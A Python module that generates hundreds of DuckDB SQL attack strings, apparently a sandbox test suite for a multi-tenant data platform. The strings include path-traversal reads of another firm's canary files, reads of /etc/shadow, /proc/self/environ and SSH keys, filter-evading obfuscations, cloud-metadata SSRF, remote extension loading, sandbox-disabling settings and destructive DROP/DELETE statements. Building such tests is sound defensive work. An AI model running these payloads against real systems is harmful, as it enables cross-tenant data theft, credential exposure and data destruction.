"""Attempts to read, write or reach what is not a firm's own by SQL, made from a few lists.

An attempt is text with ``{places}``, filled for one home by :func:`write_attempts`.
"""
# ruff: noqa: S608 statements that attack are what this is about

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import product
from pathlib import Path
from typing import Final

CANARY: Final = "CANARY-7f3ab2-OF-ANOTHER-FIRM"
# What of /etc/passwd would be told.
SYSTEM_CANARY: Final = "root:x:0:0"
VARIABLE: Final = "CELLAR_CANARY_IN_THE_ENVIRONMENT"

READERS: Final = {
    "read_csv": "csv",
    "read_csv_auto": "csv",
    "sniff_csv": "csv",
    "read_parquet": "parquet",
    "parquet_scan": "parquet",
    "parquet_schema": "parquet",
    "parquet_metadata": "parquet",
    "parquet_file_metadata": "parquet",
    "parquet_kv_metadata": "parquet",
    "read_json": "json",
    "read_json_auto": "json",
    "read_json_objects": "json",
    "read_ndjson": "json",
    "read_ndjson_objects": "json",
    "read_text": "txt",
    "read_blob": "txt",
    "read_duckdb": "duckdb",
    "glob": "*",
}
# How the other firm's file may be written.
PLACES: Final = (
    "{other}/canary.{kind}",
    "{other}/*.{kind}",
    "{home}/tables/**/*.{kind}",
    "{home}/./tables/../tables/firm=FIRM-B/canary/canary.{kind}",
    "file://{other}/canary.{kind}",
    "{share}/../../../../tables/firm=FIRM-B/canary/canary.{kind}",
    "../../../../tables/firm=FIRM-B/canary/canary.{kind}",
    "{share}/link.{kind}",
    "/proc/self/root{other}/canary.{kind}",
    "/proc/1/root{other}/canary.{kind}",
    "/proc/self/cwd/../..{other}/canary.{kind}",
    "/share/../{other}/canary.{kind}",
    "/dev/fd/../../..{other}/canary.{kind}",
)
# Files of the system and of the platform, as text.
FILES: Final = (
    "/etc/passwd",
    "/etc/shadow",
    "/etc/hosts",
    "/proc/self/environ",
    "/proc/self/maps",
    "/proc/self/cmdline",
    "/proc/1/environ",
    "/proc/self/mountinfo",
    "/proc/self/fd/0",
    "/dev/stdin",
    "/root/.ssh/id_rsa",
    "{home}/registry.sqlite",
    "{home}/settings.toml",
    "{home}/archive",
    "{home}/../*",
)
# Ways to put a query into another one; {q} is a SELECT.
WRAPPINGS: Final = (
    "WITH a AS ({q}) SELECT * FROM a",
    "WITH RECURSIVE a AS ({q}) SELECT * FROM a",
    "WITH a AS MATERIALIZED ({q}) FROM a",
    "SELECT * FROM ({q}) AS a",
    "SELECT 1 AS x WHERE EXISTS ({q})",
    "SELECT (SELECT count(*) FROM ({q})) AS n",
    "SELECT NULL FROM fade UNION ALL BY NAME {q}",
    "SELECT * FROM fade, LATERAL ({q}) AS a",
    "SELECT * FROM fade LEFT JOIN ({q}) AS a ON true",
    "SELECT * FROM fade WHERE cell_id IN (SELECT a::VARCHAR FROM ({q}) AS a)",
    "SELECT list(a) FROM ({q}) AS a",
    "SELECT ARRAY(SELECT a FROM ({q}) AS a)",
    "FROM ({q}) SELECT *",
    "SELECT CASE WHEN (SELECT count(*) FROM ({q})) > 0 THEN 'yes' END",
    "DESCRIBE {q}",
    "SUMMARIZE {q}",
    "(((({q}))))",
    "{q} ; ",
    "SELECT 1; {q}",
    "{q} -- ; SELECT 1",
    "/* SELECT 1 */ {q}",
    "SELECT * FROM fade QUALIFY row_number() OVER (ORDER BY (SELECT count(*) FROM ({q}))) > 0",
    "SELECT * FROM fade ORDER BY (SELECT count(*) FROM ({q}))",
    "SELECT * FROM fade LIMIT (SELECT count(*) FROM ({q}))",
    "SELECT * FROM (VALUES ((SELECT count(*) FROM ({q}))))",
    "EXPLAIN ANALYZE {q}",
    "PIVOT ({q}) ON 1 USING count(*)",
    "SELECT * FROM query('{quoted}')",
    "SELECT * FROM json_execute_serialized_sql(json_serialize_sql('{quoted}'))",
    "CREATE TABLE stolen AS {q}",
    "CREATE MACRO steal() AS TABLE {q}; FROM steal()",
    "PREPARE p AS {q}; EXECUTE p",
    "COPY ({q}) TO '{out}/wrapped.csv'",
    "CREATE VIEW seen AS {q}; FROM seen",
    "SET VARIABLE v = (SELECT list(a) FROM ({q}) AS a); SELECT getvariable('v')",
)
WRAPPED: Final = (
    "SELECT * FROM read_text('{other}/canary.txt')",
    "SELECT * FROM '{other}/canary.csv'",
    "SELECT * FROM read_parquet(['{other}/canary.parquet'])",
    'SELECT * FROM "{other}/canary.parquet"',
)
# Texts that are written otherwise than they are meant.
TRICKS: Final = (
    "select * from ReAd_TeXt('{other}/canary.txt')",
    "SELECT * FROM read_text/**/('{other}/canary.txt')",
    "SELECT * FROM /*!read_csv*/ read_text ( '{other}/canary.txt' )",
    "SELECT\u00a0*\u00a0FROM\u00a0read_text('{other}/canary.txt')",
    "SELECT * FROM read_text(U&'{other}/canary.t\\0078t')",
    "SELECT * FROM read_text(E'{other}/canary.t\\x78t')",
    "SELECT * FROM read_text('{other}/can' || 'ary.txt')",
    "SELECT * FROM read_text(concat('{other}', '/canary.txt'))",
    "SELECT * FROM read_text($${other}/canary.txt$$)",
    "SELECT * FROM read_text($tag${other}/canary.txt$tag$)",
    "SELECT * FROM main.read_text('{other}/canary.txt')",
    "SELECT * FROM system.main.read_text('{other}/canary.txt')",
    "SELECT * FROM pg_catalog.read_text('{other}/canary.txt')",
    "SELECT * FROM \"read_text\"('{other}/canary.txt')",
    "SELECT * FROM read_text(getvariable('x')) , read_text('{other}/canary.txt')",
    "SELECT * FROM read_text(list_value('{other}/canary.txt'))",
    "SELECT * FROM read_text((SELECT '{other}/canary.txt'))",
    "SELECT '{other}/canary.txt'.read_text()",
    "SELECT read_text('{other}/canary.txt')",
    "FROM\tread_text('{other}/canary.txt')",
    "TABLE '{other}/canary.csv'",
    "SELECT * FROM '{other}/canary.csv' AS fade",
    'WITH "{other}/canary.csv" AS (SELECT 1) SELECT * FROM (FROM "{other}/canary.csv")',
    'WITH fade AS (SELECT * FROM "{other}/canary.parquet") SELECT * FROM fade',
    "SELECT * FROM base.'{other}/canary.csv'",
    'SELECT * FROM main."{other}/canary.csv"',
    "SELECT * FROM '{other}/canary.csv'::VARCHAR",
    "SELECT * FROM '{other}/canary.duckdb'.canary",
    "SELECT 1 --\nUNION ALL SELECT content FROM read_text('{other}/canary.txt')",
    "SELECT 1 /* */ UNION /* */ SELECT content FROM read_text('{other}/canary.txt')",
    "SELECT 1\u2028; SELECT * FROM read_text('{other}/canary.txt')",
    "\ufeffSELECT * FROM read_text('{other}/canary.txt')",
    "SELECT * FROM rea\u200bd_text('{other}/canary.txt')",
    "SELECT * FROM \uff52ead_text('{other}/canary.txt')",
    "SELECT * FROM read_text('{other}/canary.txt\x01')",
    "SELECT * FROM read_text('{other}//canary.txt')",
    "SELECT * FROM read_text('{other}/../canary/canary.txt')",
    "SELECT * FROM read_csv('{other}/canary.csv', auto_detect = true, filename = true, hive_partitioning = true)",
    "SELECT * FROM read_csv('/dev/null', reject_errors = true, store_rejects = true, rejects_table = 'x')",
    "SELECT * FROM read_parquet('{other}/canary.parquet', encryption_config = {{footer_key: 'k'}})",
    "SELECT * FROM read_csv('{other}/canary.csv', files_to_sniff = -1, union_by_name = true)",
    "SELECT * FROM glob(['{home}/**'])",
    "SELECT * FROM glob('/**')",
    "SELECT * FROM parquet_bloom_probe('{other}/canary.parquet', 'x', 1)",
    "SELECT * FROM parquet_full_metadata('{other}/canary.parquet')",
    "SELECT * FROM query_table('{other}/canary.csv')",
    "SELECT * FROM query_table(['{other}/canary.csv', '{other}/canary.parquet'])",
    "SELECT * FROM summary('{other}/canary.csv')",
    "SELECT * FROM arrow_scan(1234567890::BIGINT::POINTER, 1::POINTER, 1::POINTER)",
    "SELECT * FROM arrow_scan(1::UBIGINT, 1::UBIGINT, 1::UBIGINT)",
    "SELECT * FROM pandas_scan(94000000000000)",
    "SELECT * FROM python_map_function(1, 1)",
    "SELECT * FROM seq_scan('canary')",
    "SELECT * FROM sqlite_scan('{home}/registry.sqlite', 'firm')",
    "SELECT * FROM postgres_scan('host=localhost', 'public', 'firm')",
)
# Variables of the process that answers, which DuckDB would take for tables.
VARIABLES: Final = (
    "order",
    "orders",
    "settings",
    "connection",
    "relation",
    "os",
    "sys",
    "__builtins__",
    "dataset",
    "folder",
    "self",
    "duckdb",
    "rules",
    "answers",
    "reader",
)
TELLING: Final = (
    "SELECT getenv('{variable}')",
    "SELECT getenv('HOME')",
    "SELECT current_setting('home_directory')",
    "SELECT current_setting('secret_directory')",
    "SELECT * FROM duckdb_settings()",
    "SELECT * FROM duckdb_secrets()",
    "SELECT * FROM duckdb_databases()",
    "SELECT * FROM duckdb_tables()",
    "SELECT * FROM duckdb_views()",
    "SELECT * FROM duckdb_logs()",
    "SELECT * FROM duckdb_temporary_files()",
    "SELECT * FROM duckdb_extensions()",
    "SELECT * FROM duckdb_external_file_cache()",
    "SELECT * FROM duckdb_prepared_statements()",
    "SELECT * FROM duckdb_variables()",
    "SELECT * FROM duckdb_functions()",
    "SELECT * FROM information_schema.tables",
    "SELECT * FROM information_schema.columns",
    "SELECT * FROM pg_catalog.pg_tables",
    "SELECT * FROM pg_catalog.pg_settings",
    "SELECT * FROM sqlite_master",
    "SELECT * FROM which_secret('{other}/canary.csv', 's3')",
    "SHOW TABLES",
    "SHOW ALL TABLES",
    "SHOW DATABASES",
    "SHOW secret_directory",
    "PRAGMA database_list",
    "PRAGMA show_tables",
    "PRAGMA version",
    "PRAGMA platform",
    "CALL duckdb_settings()",
    "SELECT current_user, current_database(), current_schemas(true), current_query()",
    "SELECT version(), pg_postmaster_start_time()",
    "SELECT * FROM fade WHERE firm <> 'FIRM-A'",
    "SELECT * FROM cells WHERE firm = 'FIRM-B'",
    "SELECT * FROM base.cell WHERE firm = 'FIRM-B'",
    "SELECT * FROM base.test WHERE firm IS NULL OR firm = 'FIRM-B'",
    "SELECT * FROM firm",
    "SELECT * FROM base.firm",
    "SELECT filename FROM base.measurements",
    "SELECT DISTINCT filename FROM measurements",
    "SELECT error('x' || getenv('{variable}'))",
    "SELECT CAST((SELECT content FROM read_text('{other}/canary.txt')) AS INTEGER)",
    "SELECT 1 / (SELECT count(*) FROM read_csv('{other}/canary.csv'))",
    "SELECT write_log((SELECT content FROM read_text('{other}/canary.txt')))",
)
CHANGING: Final = (
    "ATTACH '{other}/canary.duckdb' AS b; SELECT * FROM b.canary",
    "ATTACH '{other}/canary.duckdb' AS b (READ_ONLY); SELECT * FROM b.canary",
    "ATTACH '{home}/registry.sqlite' AS r (TYPE sqlite); SELECT * FROM r.cell",
    "ATTACH '{out}/made.duckdb' AS m; CREATE TABLE m.t AS SELECT 1",
    "ATTACH ':memory:' AS m; CREATE TABLE m.t AS SELECT * FROM read_text('{other}/canary.txt'); FROM m.t",
    "ATTACH 'host=127.0.0.1' AS p (TYPE postgres)",
    "ATTACH 'https://example.com/x.duckdb' AS h",
    "ATTACH 's3://bucket/x.duckdb' AS s",
    "DETACH memory",
    "USE system",
    "COPY (SELECT 1) TO '{out}/copied.csv'",
    "COPY (SELECT 1) TO '{out}/copied.parquet'",
    "COPY (SELECT 1) TO '{out}/copied.json'",
    "COPY (SELECT 1) TO '{out}' (FORMAT parquet, PARTITION_BY (1))",
    "COPY (SELECT 1) TO '{home}/inbox/evil.csv'",
    "COPY (SELECT 1) TO '{home}/tables/firm=FIRM-B/canary/canary.csv'",
    "COPY (SELECT 1) TO '{share}/made.csv'",
    "COPY (SELECT 1 AS x) TO '{share}/link.csv'",
    "COPY (SELECT 1) TO '/dev/stdout'",
    "COPY (SELECT 1) TO '/dev/stderr'",
    "COPY (SELECT 1) TO '/proc/self/mem'",
    "COPY (SELECT 1) TO '/proc/self/oom_score_adj' (HEADER false)",
    "COPY (SELECT 1) TO '/share/files/x.csv'",
    "COPY (SELECT 1) TO '/tmp/escaped.csv'",
    "COPY (SELECT 1) TO 's3://bucket/x.csv'",
    "CREATE TABLE t (x VARCHAR); COPY t FROM '{other}/canary.csv'; FROM t",
    "EXPORT DATABASE '{out}/exported'",
    "IMPORT DATABASE '{other}'",
    "COPY FROM DATABASE memory TO memory",
    "CREATE TABLE t AS SELECT 1",
    "CREATE TEMP TABLE t AS SELECT 1",
    "CREATE OR REPLACE VIEW fade AS SELECT 1",
    "CREATE OR REPLACE MACRO sum(x) AS 1",
    "CREATE FUNCTION f() AS TABLE SELECT * FROM read_text('{other}/canary.txt')",
    "CREATE SCHEMA s",
    "CREATE SEQUENCE s",
    "CREATE TYPE t AS ENUM (SELECT content FROM read_text('{other}/canary.txt'))",
    "CREATE INDEX i ON fade (cycle)",
    "CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')",
    "CREATE PERSISTENT SECRET s (TYPE http, BEARER_TOKEN 'x')",
    "DROP VIEW fade",
    "DROP SCHEMA base CASCADE",
    "ALTER VIEW fade RENAME TO gone",
    "INSERT INTO fade VALUES (1)",
    "UPDATE fade SET cycle = 1",
    "DELETE FROM fade",
    "MERGE INTO fade USING fade AS x ON true WHEN MATCHED THEN DELETE",
    "TRUNCATE fade",
    "INSTALL httpfs",
    "INSTALL httpfs FROM community",
    "INSTALL '{other}/evil.duckdb_extension'",
    "FORCE INSTALL sqlite",
    "LOAD httpfs",
    "LOAD sqlite",
    "LOAD '{other}/evil.duckdb_extension'",
    "LOAD 'https://example.com/evil.duckdb_extension'",
    "UPDATE EXTENSIONS",
    "SELECT * FROM read_csv('https://127.0.0.1:1/x.csv')",
    "SELECT * FROM read_csv('http://169.254.169.254/latest/meta-data/')",
    "SELECT * FROM read_parquet('s3://bucket/key.parquet')",
    "SELECT * FROM read_parquet('gcs://bucket/key.parquet')",
    "SELECT * FROM read_parquet('hf://datasets/x/y.parquet')",
    "SELECT * FROM 'https://example.com/x.parquet'",
    "SELECT * FROM read_text('ftp://example.com/x')",
    "SELECT * FROM delta_scan('s3://bucket/t')",
    "SELECT * FROM iceberg_scan('{other}')",
    "SET enable_external_access = true",
    "SET lock_configuration = false",
    "SET allowed_directories = ['/']",
    "SET GLOBAL allowed_paths = ['/etc/passwd']",
    "SET memory_limit = '100GB'",
    "SET threads = 128",
    "SET temp_directory = '{out}'",
    "SET secret_directory = '{out}'",
    "SET home_directory = '{other}'",
    "SET extension_directory = '{out}'",
    "SET extension_directories = ['{out}']",
    "SET custom_extension_repository = '{other}'",
    "SET allow_unsigned_extensions = true",
    "SET max_execution_time = 0",
    "SET python_enable_replacements = true",
    "SET python_scan_all_frames = true; SELECT * FROM settings",
    "SET file_search_path = '{other}'; SELECT * FROM 'canary.csv'",
    "SET log_query_path = '{out}/log.sql'",
    "SET profiling_output = '{out}/profile.json'; SET enable_profiling = 'json'; SELECT 1",
    "SET logging_storage = 'file'; CALL enable_logging(storage_path = '{out}/log')",
    "CALL enable_logging(storage = 'file', storage_config = {{'path': '{out}/log.csv'}})",
    "CALL enable_profiling(save_location = '{out}/profile.json'); SELECT 1",
    "PRAGMA enable_external_access = true",
    "PRAGMA enable_profiling = 'json'",
    "PRAGMA profiling_output = '{out}/profile.json'; PRAGMA enable_profiling; SELECT 1",
    "PRAGMA temp_directory = '{out}'",
    "PRAGMA import_database('{other}')",
    "PRAGMA copy_database('memory', 'memory')",
    "PRAGMA add_parquet_key('k', '0123456789112345')",
    "PRAGMA database_size",
    "PRAGMA storage_info('fade')",
    "PRAGMA memory_limit = '1TB'",
    "RESET enable_external_access",
    "RESET lock_configuration",
    "RESET allowed_directories",
    "RESET GLOBAL memory_limit",
    "RESET max_execution_time",
    "CALL force_checkpoint()",
    "CHECKPOINT",
    "FORCE CHECKPOINT",
    "VACUUM",
    "ANALYZE",
    "BEGIN; SELECT 1; COMMIT",
    "BEGIN TRANSACTION",
    "PREPARE p AS SELECT * FROM read_text('{other}/canary.txt')",
    "PREPARE p AS COPY (SELECT 1) TO '{out}/prepared.csv'; EXECUTE p",
    "EXECUTE p",
    "DEALLOCATE p",
    "CALL query('COPY (SELECT 1) TO ''{out}/called.csv''')",
    "SELECT * FROM query('COPY (SELECT 1) TO ''{out}/queried.csv''')",
    "SELECT * FROM register_external_resource_type('x')",
    "SELECT * FROM create_external_resource('x', '{other}/canary.csv')",
    "SELECT * FROM duckdb_profiling_settings()",
    "SELECT * FROM truncate_duckdb_logs()",
    "SELECT * FROM test_all_types()",
    "SELECT nextval('s')",
    "SELECT setseed(0.5)",
    "SELECT sleep_ms(60000)",
    "SELECT pg_sleep(60)",
    "SELECT 1; SELECT 2; COPY (SELECT 1) TO '{out}/third.csv'",
    "SELECT 1;;;;COPY (SELECT 1) TO '{out}/fifth.csv'",
    "SELECT $1",
    "SELECT ?",
    "",
    ";",
    "-- nothing",
    "'",
    "SELECT '",
    'SELECT "',
    "SELECT $$",
    "SELECT /*",
    "\x00",
    "SELECT '\x00'",
    "SELECT '\ud7ff\ue000'",
)


@dataclass(frozen=True)
class Places:
    """Where things lie in the home that is attacked.

    Args:
        home: the home.
        other: a folder of the other firm, with canaries in files of every kind.
        share: the attacker's share, as the attacker may guess it.
        out: a folder that anyone may write to.
    """

    home: Path
    other: Path
    share: str
    out: Path


def write_attempts(places: Places) -> list[str]:
    """Return every attempt on a home, each once."""
    names = {"home": places.home, "other": places.other, "share": places.share, "out": places.out}
    told = [text.format(variable=VARIABLE, **names) for text in (*TRICKS, *TELLING, *CHANGING)]
    told += [text.format(**names) for text in (*_read_other(), *_read_files())]
    told += [f"SELECT * FROM {name}" for name in VARIABLES]
    for wrapping, query in product(WRAPPINGS, WRAPPED):
        inner = query.format(**names)
        told.append(wrapping.format(q=inner, quoted=inner.replace("'", "''"), out=places.out))
    return list(dict.fromkeys(told))


def _read_other() -> Iterator[str]:
    for (reader, kind), place in product(READERS.items(), PLACES):
        yield f"SELECT * FROM {reader}('{place.replace('{kind}', kind)}')"
    for place, kind in product(PLACES, ("csv", "parquet", "json")):
        yield f"SELECT * FROM '{place.replace('{kind}', kind)}'"


def _read_files() -> Iterator[str]:
    for reader, file in product(("read_text", "read_blob", "read_csv"), FILES):
        options = ", header = false, delim = '\\x01', ignore_errors = true" if reader == "read_csv" else ""
        yield f"SELECT * FROM {reader}('{file}'{options})"
